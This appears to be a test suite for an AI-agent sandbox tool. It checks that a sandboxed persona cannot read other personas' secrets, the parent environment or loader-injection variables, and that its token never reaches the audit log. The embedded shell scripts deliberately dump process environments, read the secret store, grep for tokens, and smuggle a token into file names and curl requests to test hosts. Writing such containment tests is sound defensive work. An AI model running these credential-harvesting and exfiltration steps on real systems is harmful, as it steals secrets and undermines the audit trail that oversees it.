// Escape suite, identity: the agent gets its own persona's credential (a
// placeholder for a bound one; the value itself only for one the persona
// passes with `inject: env`) and nothing else: not another persona's secrets (not in its environment, not in
// the secret store, not in a concurrently running session of that persona),
// not the parent's environment, not loader or interpreter injection variables.
// Its own credential's value never reaches the audit log, however the agent
// smuggles it into what gets recorded (argv, file names, host names). Judged
// from outside: the agent's output, the audit export and the raw database
// bytes are searched for the secret values.
import { existsSync, readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { cli, makeVisibleHome, ROOT, runEnv, sandbox, sessionEvents, startRun, testServer, testUsers, type Home, type TestServer } from './lib.js';

const OWN = 'tok-ident-5c81e2-bound-0123456789abcdef';
const CLEAR = 'tok-clear-7d20a4';
const OTHER = 'tok-other-a93f07';
const PARENT = {
  PARENT_CANARY: 'parent-canary-1d44',
  LD_PRELOAD: '/nonexistent/parent-preload-1d44.so',
  LD_LIBRARY_PATH: '/nonexistent/parent-libpath-1d44',
  LD_AUDIT: '/nonexistent/parent-audit-1d44.so',
  DYLD_INSERT_LIBRARIES: '/nonexistent/parent-dyld-1d44.dylib',
  // The CLI itself runs with these too, so this one must leave node working.
  NODE_OPTIONS: '--title=parent-node-1d44',
  BASH_ENV: '/nonexistent/parent-bashenv-1d44',
  ENV: '/nonexistent/parent-env-1d44',
  PYTHONSTARTUP: '/nonexistent/parent-pystartup-1d44.py',
  PYTHONPATH: '/nonexistent/parent-pypath-1d44',
  PERL5OPT: '-Mparent_perl_1d44',
  GIT_CONFIG_PARAMETERS: "'core.fsmonitor=parent-git-1d44'",
  GIT_SSH_COMMAND: 'parent-gitssh-1d44',
  SSH_AUTH_SOCK: '/nonexistent/parent-agent-1d44.sock',
  AWS_SECRET_ACCESS_KEY: 'parent-aws-1d44',
  GITHUB_TOKEN: 'parent-github-1d44',
  ANTHROPIC_API_KEY: 'parent-anthropic-1d44',
};

for (const as of testUsers()) {
  describe(`identity, as ${as.label}`, () => {
    let h: Home;
    let allowed: TestServer;

    beforeAll(async () => {
      h = makeVisibleHome(as);
      allowed = await testServer('ok');
      h.writePersona({
        name: 'ident',
        agent: 'shell',
        execution_mode: 'autonomous',
        filesystem: { write: ['{workspace}'] },
        network: { allow: ['allowed.test'] },
        credentials: { API_TOKEN: { secret: 'ident-token', hosts: ['allowed.test'] }, CLEAR_TOKEN: { secret: 'ident-clear', inject: 'env' } },
      });
      h.writePersona({ name: 'other', agent: 'shell', execution_mode: 'autonomous', credentials: { OTHER_TOKEN: { secret: 'other-token', inject: 'env' } } });
      expect((await cli(h, ['secret', 'set', 'ident-token'], { input: `${OWN}\n`, env: runEnv(h) })).code).toBe(0);
      expect((await cli(h, ['secret', 'set', 'ident-clear'], { input: `${CLEAR}\n`, env: runEnv(h) })).code).toBe(0);
      expect((await cli(h, ['secret', 'set', 'other-token'], { input: `${OTHER}\n`, env: runEnv(h) })).code).toBe(0);
    });

    afterAll(async () => {
      await allowed.close();
      h.cleanup();
    });

    it("has its own credential and nothing of another persona's, nor of the parent's environment", async () => {
      // The other persona is running at the same time, its token in its environment.
      const other = await startRun(h, ['other', '--', 'sleep', '30'], { env: runEnv(h) });
      try {
        // Everything the sandbox prints goes to stdout; the CLI's own stderr (the host side,
        // which does run with these variables) is not the sandbox's.
        const s = `exec 2>&1
say own "$API_TOKEN"
say clear "$CLEAR_TOKEN"
say own_name "$PERSONAE_PERSONA"
env
cat /proc/self/environ | tr '\\0' '\\n'
for f in /proc/[0-9]*/environ; do cat "$f" 2>/dev/null | tr '\\0' '\\n'; done
ls -la ${h.home} ${h.home}/secrets ${h.home}/homes 2>&1
cat ${h.home}/secrets/* ${h.home}/homes/other/* 2>&1
PERSONAE_HOME=${h.home} node ${ROOT}/bin/personae.cjs secret list 2>&1
grep -rs ${OTHER.slice(0, 9)} ${h.dir} /var/tmp /tmp /run 2>/dev/null | head -5
say ld "$(python3 -c 'import os; print(sorted(k for k in os.environ if (k.startswith(("LD_", "DYLD_", "PYTHON", "PERL", "NODE_", "BASH_ENV", "GIT_SSH", "SSH_", "AWS_", "GITHUB_", "ANTHROPIC_")) or k in ("ENV", "GIT_CONFIG_PARAMETERS", "PARENT_CANARY")) and not os.environ[k].startswith("/run/personae/trust/")))')"
`;
        const r = await sandbox(h, 'ident', s, { env: PARENT });
        expect(r.code).toBe(0);
        // A bound credential is a placeholder of the value's shape; the clear one is the value.
        expect(r.marks.own).toMatch(/^[a-z]{3}-[a-z]{5}-\d[a-z]\d{2}[a-z]\d-[a-z]{5}-\d{10}[a-z]{6}$/);
        expect(r.output).not.toContain(OWN);
        expect(r.marks.clear).toBe(CLEAR);
        expect(r.marks.own_name).toBe('ident');
        // The environment dump did run (so the absences below mean something).
        expect(r.stdout).toMatch(/^PERSONAE_PERSONA=ident$/m);
        expect(r.stdout).toMatch(/^HTTPS_PROXY=http:\/\/127\.0\.0\.1:3128$/m);
        expect(r.output).not.toContain(OTHER);
        for (const [k, v] of Object.entries(PARENT)) {
          expect(r.stdout, k).not.toContain(v);
          expect(r.stdout, k).not.toMatch(new RegExp(`^${k}=`, 'm'));
        }
        // (NODE_EXTRA_CA_CERTS is personae's own: the session's CA, left out above.)
        expect(r.stdout).toMatch(/^NODE_EXTRA_CA_CERTS=\/run\/personae\/trust\/session-ca\.pem$/m);
        expect(r.marks.ld).toBe('[]');
      } finally {
        await cli(h, ['stop', other.session.slice(0, 8)], { env: runEnv(h) });
        await other.done;
      }
    });

    it("a credential value the agent holds (inject: env) never reaches the audit log, however it is smuggled in", async () => {
      const hosts = { PERSONAE_HOSTS: `allowed.test=127.0.0.1:${allowed.port}` };
      const s = `
/usr/bin/printf '%s\\n' "$CLEAR_TOKEN" > /dev/null
/usr/bin/env "TOKEN_COPY=$CLEAR_TOKEN" true
touch "leak-$CLEAR_TOKEN.txt"
mkdir "dir-$CLEAR_TOKEN"
curl -s -m 5 "http://allowed.test/q?t=$CLEAR_TOKEN" > /dev/null
curl -s -m 5 "http://$CLEAR_TOKEN.denied.test/" > /dev/null
curl -s -m 5 -p "http://$CLEAR_TOKEN.allowed.test/" > /dev/null
sh -c "echo $CLEAR_TOKEN > /dev/null"
sleep 0.3
say done 1
`;
      const r = await sandbox(h, 'ident', s, { env: hosts });
      expect(r.marks.done).toBe('1');
      // The attempts are there, under the persona's name...
      const events = await sessionEvents(h, r.session);
      expect(events.every((e) => e.persona === 'ident')).toBe(true);
      expect(events.some((e) => e.kind === 'exec' && (e.tool ?? '').endsWith('printf'))).toBe(true);
      expect(events.some((e) => e.kind === 'fs.write' && (e.target ?? '').includes('leak-'))).toBe(true);
      expect(events.some((e) => e.kind === 'net.connect' && e.decision === 'deny' && (e.target ?? '').includes('denied.test'))).toBe(true);
      // ...and the value is nowhere: not in the export...
      const all = await cli(h, ['audit', '--format', 'jsonl', '--limit', '100000'], { env: runEnv(h) });
      expect(all.code).toBe(0);
      expect(all.stdout).toContain('leak-');
      expect(all.stdout).not.toContain(CLEAR);
      expect(all.stdout).not.toContain(OWN);
      expect(all.stdout).not.toContain(OTHER);
      // ...not in the database files on disk (WAL included)...
      for (const f of readdirSync(h.home).filter((n) => n.startsWith('audit'))) {
        expect(readFileSync(path.join(h.home, f)).includes(CLEAR), f).toBe(false);
        expect(readFileSync(path.join(h.home, f)).includes(OWN), f).toBe(false);
      }
      // ...and not in the personae home at all, the secret store aside.
      expect(existsSync(path.join(h.home, 'secrets'))).toBe(true);
      // The workspace does hold the file the agent named after it: that is the agent's own output.
      expect(existsSync(path.join(h.workspace, `leak-${CLEAR}.txt`))).toBe(true);
    });
  });
}
